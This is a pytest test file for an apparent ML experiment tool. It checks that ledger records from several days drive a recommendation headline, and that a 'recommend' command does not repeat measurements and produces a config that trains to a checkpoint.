def test_what_else_a_ledger_holds_from_one_day_after_the_other(
    tmp_path: Path, days: list[list[RunRecord]], headline: str
) -> None:
    """All cores answer before fewer, one's own trials before published ones; another size is another training."""
    ledger = Ledger(tmp_path / "ledger.jsonl")
    for day, records in enumerate(days, 4):
        dates = [r.date.replace("2026-01-03", f"2026-01-0{day}") for r in records]
        ledger.append(replace(r, environment=make.environment(date=d)) for r, d in zip(records, dates, strict=True))
    assert headline in experiments.recommendation(ledger=ledger.path, output_dir=tmp_path).finding.headline


# --- the command ------------------------------------------------------------------------------------------------------


@pytest.mark.slow
def test_a_search_is_not_begun_again_and_its_answer_trains(tmp_path: Path, call: Call) -> None:
    ledger = Ledger(tmp_path / LEDGER)
    found = []
    for _ in range(2):
        code, _, err = call("recommend", "--preset", "smoke", "--device", "cpu", "--output-dir", tmp_path)
        assert code == 0, err
        found.append([(r.experiment, r.set_id, r.role) for r in ledger.read()[0] if r.set_id])
    assert found[0] == found[1], "nothing is measured again"
    for experiment, fewest in ((SEARCH, {"candidate"}), (RECOMMENDATION, set())):  # where nothing seems faster
        sets = [(set_id, role) for name, set_id, role in found[0] if name == experiment]
        roles = {role for _, role in sets}
        assert (len(dict(sets)), roles | {"candidate"}) == (1, {"baseline", "twin", "candidate"})
        assert fewest <= roles
    assert (tmp_path / "image_output" / "06_recommendation.png").is_file()
    options = ("--steps", 2, "--output-dir", tmp_path / "run", "--sample-every", 0, "--evaluate-every", 0)
    code, _, err = call("train", "--config", tmp_path / "recommended.toml", *options)
    assert code == 0, err
    assert (tmp_path / "run" / "checkpoints" / "step-00000002.pt").is_file()
